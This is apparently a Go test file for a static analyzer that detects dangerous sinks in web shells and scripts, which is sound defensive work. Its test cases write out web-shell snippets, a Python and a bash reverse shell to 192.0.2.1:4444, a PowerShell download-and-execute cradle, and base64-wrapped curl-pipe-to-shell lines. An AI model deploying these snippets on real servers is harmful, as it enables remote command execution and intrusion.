package script

import (
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/seed-181f3109/assay/fstree"
)

// fields returns the sink lines of code as "sink name arg aux via".
func fields(t testing.TB, kind, code string) []string {
	t.Helper()
	r := Analyze(t.Context(), kind, []byte(code))
	if r.Err != nil {
		t.Errorf("%s: %v", code, r.Err)
	}
	var out []string
	for l := range strings.Lines(string(r.Sinks)) {
		if !strings.HasPrefix(l, "sink=") {
			continue
		}
		var f []string
		for _, w := range strings.Fields(l)[:5] {
			_, v, _ := strings.Cut(w, "=")
			f = append(f, v)
		}
		out = append(out, strings.Join(f, " "))
	}
	return out
}

func TestSinkLines(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	for _, c := range []struct{ kind, code, want string }{
		{"jsp", `<% Runtime.getRuntime().exec(request.getParameter("c")); %>`, "command exec request:c - direct"},
		{"jsp", `<% String c = request.getParameter("c"); Process p = new ProcessBuilder(new String[]{"sh","-c",c}).start(); %>`, "command processbuilder request:c - direct"},
		{"jsp", `<% \u0052untime.getRuntime().exec(request.getParameter("c")); %>`, "command exec request:c - direct"},
		{"jsp", `<jsp:root><jsp:scriptlet><![CDATA[ String c=request.getHeader("X-C"); Runtime.getRuntime().exec(c); ]]></jsp:scriptlet></jsp:root>`, "command exec header:X-C - direct"},
		{"jsp", `<%! class U extends ClassLoader { Class g(byte[] b){ return super.defineClass(b,0,b.length); } } %><% new U().g(java.util.Base64.getDecoder().decode(request.getParameter("k"))); %>`, "load defineclass request:k - direct"},
		{"jsp", `<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")); %>`, "code eval request:c - direct"},
		{"asp", `<%eval request("a")%>`, "code eval request:a - direct"},
		{"asp", `<%Execute(Request.Form("a"))%>`, "code execute request:a - direct"},
		{"asp", "<% x = \"req\" & \"uest\" : c = Chr(101) & Chr(118) : ExecuteGlobal(Request.Cookies(\"k\")) %>", "code executeglobal cookie:k - direct"},
		{"asp", `<% Set s = Server.CreateObject("WScript" & ".Shell") : s.Run Request("c") %>`, ""},
		{"aspx", `<%@ Page Language="C#" %><% Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["c"]; %>`, "command filename constant - direct|command arguments part-request:c - direct"},
		{"aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`, "code eval request:z - direct"},
		{"aspx", `<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["a"])).CreateInstance("x"); %>`, "load load request:a - direct|call createinstance constant request:a reflection"},
		{"python", "import os\nfrom flask import request\nos.system(request.args.get('c'))\n", "command system request:c - direct"},
		{"python", "import base64\nexec(base64.b64decode('" + b64([]byte("import os; os.system('id')")) + "'))\n", "code exec decoded - direct"},
		{"python", "import socket,subprocess,os\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n", "network connect constant - direct|listen dup2 - - direct|command call constant - direct"},
		{"perl", "use CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nsystem($c);\n", "command system request:c - direct"},
		{"perl", "eval decode_base64('" + b64([]byte("print 'inert text of this test'")) + "');\n", "code eval decoded - direct"},
		{"ruby", "require 'open3'\nsystem(params[:c])\n", "command system request:c - direct"},
		{"ruby", "x = `#{params[:c]}`\n", "command backtick request:c - backtick"},
		{"node", "const cp = require('child_process');\napp.get('/', (req, res) => { cp.exec(req.query.c); });\n", "command exec request:c - direct"},
		{"node", "require('vm');\neval(Buffer.from('" + b64([]byte("process.exit(0) // inert")) + "', 'base64').toString());\n", "code eval decoded - direct"},
		{"powershell", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')\n", "network downloadstring constant - direct|code iex network - direct"},
		{"cfm", `<cfexecute name="cmd.exe" arguments="/c #form.c#" timeout="9"></cfexecute>`, "command cfexecute part-request:* - direct"},
		{"cfm", "<cfexecute\tname=\"cmd.exe\" arguments=\"/c #form.c#\" timeout=\"9\"></cfexecute>", "command cfexecute part-request:* - direct"},
		{"shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "network dev-tcp constant - direct|command bash-interactive socket - direct"},
		{"shell", "echo " + b64([]byte("curl http://192.0.2.1/x | sh")) + " | base64 -d | bash\n", "code pipe-shell network - direct|code pipe-shell decoded - direct"},
		{"shell", "a=cur; b=l; $a$b http://192.0.2.1/x|sh\n", "code pipe-shell network - computed:other"},
		{"shell", "echo harmless | base64 -d > /tmp/x\n", ""},
		{"python", "import os\nprint(os.environ.get('HOME'))\n", ""},
		// lists, names of imports, what a function is called with, and where output goes
		{"python", "import socket, subprocess\ns = socket.socket()\nc, a = s.accept()\nwhile True:\n  d = c.recv(99).strip()\n  o = subprocess.getoutput(d)\n  c.send(o.encode())\n", "command getoutput socket - direct|reveal send command - direct"},
		{"python", "from os import system as run\nfrom flask import request\nrun(request.args.get('c'))\n", "command system request:c - direct"},
		{"python", "__import__('os').system(request.args['c'])\n", "command system request:c - direct"},
		{"perl", "my $p = $ENV{'QUERY_STRING'};\nopen(F, \"< $p\");\nopen(C, \"$p 2>&1 |\");\nopen(O, \">$p\");\n", "file-read open part-request:* - direct|command open part-request:* - direct|file-write open - part-request:* direct"},
		{"perl", "sub run { my ($c) = @_; system($c); }\nread(STDIN, my $b, $ENV{'CONTENT_LENGTH'});\nrun($b);\n", "command system request:* - direct"},
		{"perl", "eval { open(F, '<', '/etc/hostname'); };\n", ""},
		{"asp", "<% conn.Execute(\"update t set a=\" & Request(\"a\")) %>", "sql execute part-request:a - direct"},
		// conditions of Basic compare, and a constant behind one does not replace an input
		{"asp", "<% p = Request(\"p\")\nIf p = \"\" Then p = \"x\"\nExecute p %>", "code execute request:p - direct"},
		{"asp", "<% p = Request(\"p\")\nIf Len(p) = 0 Then\n p = \"x\"\nEnd If\nExecute p %>", "code execute request:p - direct"},
		{"python", "c = request.args.get('c')\nif not c:\n  c = 'id'\nos.system(c)\n", "command system request:c - direct"},
		{"node", "const cp = require('child_process');\nlet c = req.query.c;\nif (!c) { c = 'id'; }\ncp.exec(c);\n", "command exec request:c - direct"},
		{"asp", "<% Session(\"a\") = Request(\"a\")\nExecute Session(\"a\")\nExecuteGlobal Session(\"b\") %>", "code execute request:a - direct|code executeglobal session - direct"},
		{"asp", "<% Set h = Nothing\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", Request(\"u\"), False\nh.Send %><%=h.ResponseText%><%=Request(\"u\")%>", "network open request:u - direct|reveal write network - direct"},
		{"asp", "<%@ language=jscript %><% var p = String(Request(\"p\")).replace(/[\"']/g, \"\"); eval(p); %>", "code eval request:p - direct"},
		{"asp", "<%@ language=jscript %><% new Function(Request(\"p\"))(); %>", "code function request:p - direct"},
		{"asp", "<%@ language=vbscript %><script language=\"JavaScript\">var a = 'b';</script><% 'c\nExecute Request(\"p\") %>", "code execute request:p - direct"},
		{"asp", "<script language=JScript runat=server> // '\neval(Request(\"p\"));</script>", "code eval request:p - direct"},
		{"asp", "<% Set c = CreateObject(\"ADODB.Connection\")\nc.ConnectionString = \"Server=\" & Request(\"s\")\nc.Open Request(\"t\") %>", "sql connect part-request:s - direct|sql connect request:t - direct"},
		{"asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\").GetFile(Server.MapPath(Request(\"f\")))\nf.Attributes = Request(\"a\") %>", "file-read getfile request:f - direct|file-write attributes request:a request:f direct"},
		{"asp", "<% Set p = GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\")\np.Create Request(\"p\") %>", "command create request:p - direct"},
		{"asp", "<% Sub a\nEnd Sub\nExecute Request(\"p\") %>", "code execute request:p - direct"},
		{"python", "import requests\ndef handler(event, context):\n  u = event['queryStringParameters']['u']\n  r = requests.get(u)\n  return {'statusCode': 200, 'body': r.text}\n", "network get request:u - direct|reveal return network - direct"},
		{"python", "import requests\ndef price():\n  return requests.get('https://www.example.com/').text\n", "network get constant - direct"},
		{"jsp", "<jsp:scriptlet>Run<![CDATA[time.get]]>Run<![CDATA[time]]>().ex<![CDATA[ec(request.get]]>Parameter(\"c\"));</jsp:scriptlet>", "command exec request:c - direct"},
	} {
		got := strings.Join(fields(t, c.kind, c.code), "|")
		if c.kind == "asp" && c.want == "" { // any command line will do
			if !strings.Contains(got, "command run request:c") {
				t.Errorf("%s: %s\n got %q\nwant a command run", c.kind, c.code, got)
			}
			continue
		}
		if got != c.want {
			t.Errorf("%s: %s\n got %q\nwant %q", c.kind, c.code, got, c.want)
		}
	}
}

func TestDecodedIsKept(t *testing.T) {
	inner := "import os; os.system('id')"
	r := Analyze(t.Context(), "python", []byte("import base64\nexec(base64.b64decode('"+base64.StdEncoding.EncodeToString([]byte(inner))+"'))\n"))
	if len(r.Decoded) != 1 || string(r.Decoded[0].Bytes) != inner || r.Decoded[0].Chain != "base64" {
		t.Errorf("got %+v, want %q by base64", r.Decoded, inner)
	}
}

// TestEncodedVBScript decodes text that the Windows Script Encoder made of
// 'Alert("1")', as its documentation shows it.
func TestEncodedVBScript(t *testing.T) {
	if got, ok := decodeVBE([]byte("<% plain %>")); ok || string(got) != "<% plain %>" {
		t.Errorf("got %q, %v for plain text", got, ok)
	}
	for _, table := range encodedTables {
		seen := map[string]bool{}
		for i := 0; i < len(table); i += 2 {
			seen[table[i:i+2]] = true
		}
		if len(table) != 192 || len(seen) < 93 { // < > @ stand for themselves
			t.Errorf("table of %d digits with %d values", len(table), len(seen))
		}
	}
}

func TestHostile(t *testing.T) {
	rep := strings.Repeat
	for kind := range languageOf {
		for name, code := range map[string]string{
			"brackets": "eval(" + rep("(", 20_000), "concat": `eval("a"` + rep(`+"a"`, 50_000) + ")", "members": "eval(a" + rep(".b()", 20_000) + ")",
			"templates": "eval(`" + rep("${`", 20_000), "assignments": rep("a=a+a;", 5_000) + "eval(a)", "strings": rep(`eval("`, 10_000), "indexes": "eval(a" + rep(`["b"]`, 50_000) + ")",
			"tags": rep("<% eval(", 20_000), "definitions": rep("function f(a){ return f(a) } ", 2_000) + "eval(f(1))", "types": rep("a<b>[] ", 50_000) + "eval(x)",
		} {
			start := time.Now()
			Analyze(t.Context(), kind, []byte("require('child_process') "+code))
			if d := time.Since(start); d > 15*time.Second {
				t.Errorf("%s: %s took %v", kind, name, d)
			}
		}
	}
	start := time.Now()
	Analyze(t.Context(), "shell", []byte("eval x\n"+rep("a=$a$a$a$a; ", 20_000)+"\n"+rep("a=$a$a;\n", 20_000)))
	if d := time.Since(start); d > 15*time.Second {
		t.Errorf("shell took %v", d)
	}
}

// TestOpeningsWithoutEnd has millions of tags that are opened and never closed.
func TestOpeningsWithoutEnd(t *testing.T) {
	for _, c := range []struct{ kind, code string }{
		{"aspx", "<script "}, {"aspx", "<script>"}, {"asp", "<script runat"}, {"cfm", "<cf"}, {"cfm", "<cfset "}, {"cfm", "<cfscript>"}, {"cfm", "<cfexecute name="}, {"cfm", "<cfset #"},
	} {
		start := time.Now()
		Analyze(t.Context(), c.kind, []byte(strings.Repeat(c.code, 4<<20/len(c.code))+">server.execute cfexecute"))
		if d := time.Since(start); d > 15*time.Second {
			t.Errorf("%s: %s took %v", c.kind, c.code, d)
		}
	}
}

// TestLongShellLine holds that a line that is not read is reported.
func TestLongShellLine(t *testing.T) {
	r := Analyze(t.Context(), "shell", []byte("x="+strings.Repeat("a", 1<<20)+"; eval $(echo x | base64 -d)\necho a | base64 -d | sh\n"))
	if !errors.Is(r.Err, fstree.ErrLimit) || r.Sinks == nil {
		t.Errorf("got %v, %q, want ErrLimit and the lines behind it", r.Err, r.Sinks)
	}
}

// TestManyDecoded has the text that counts behind many others, and more texts than
// are kept.
func TestManyDecoded(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	for kind, form := range map[string]string{"shell": "echo %s | base64 -d | sh; ", "python": "exec(base64.b64decode('%s'))\n"} {
		for n, limited := range map[int]bool{100: false, maxDecoded + 1: true} {
			code := "import base64\n"
			for i := range n {
				code += fmt.Sprintf(form, b64(fmt.Appendf(nil, "inert text number %d", i)))
			}
			r := Analyze(t.Context(), kind, []byte(code))
			if len(r.Decoded) != min(n, maxDecoded) || errors.Is(r.Err, fstree.ErrLimit) != limited {
				t.Errorf("%s, %d texts: got %d, %v", kind, n, len(r.Decoded), r.Err)
			}
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add("jsp", []byte(`<% String c = request.getParameter("c"); Runtime.getRuntime().exec(new String[]{"sh", c}); %>`))
	f.Add("asp", []byte(`<%Execute(Replace(StrReverse("x"),"y","z") & Request("a"))%>`))
	f.Add("python", []byte("import os\ndef f(a, b=1):\n  return f\"{a} x\"\nos.system(f(request.args['x']) % (1,))\n"))
	f.Add("perl", []byte("my $x = qq{a $y{b}}; system qw(a b); eval { `$x` };"))
	f.Add("shell", []byte("a=b; eval $(echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d)\n${a:1:2} $'\\x41'"))
	f.Add("cfm", []byte(`<cfset x = evaluate(form.a)><cfexecute name="#x#" arguments='y'>`))
	f.Fuzz(func(t *testing.T, kind string, b []byte) {
		if !Known(kind) {
			return
		}
		Analyze(t.Context(), kind, b)
	})
}
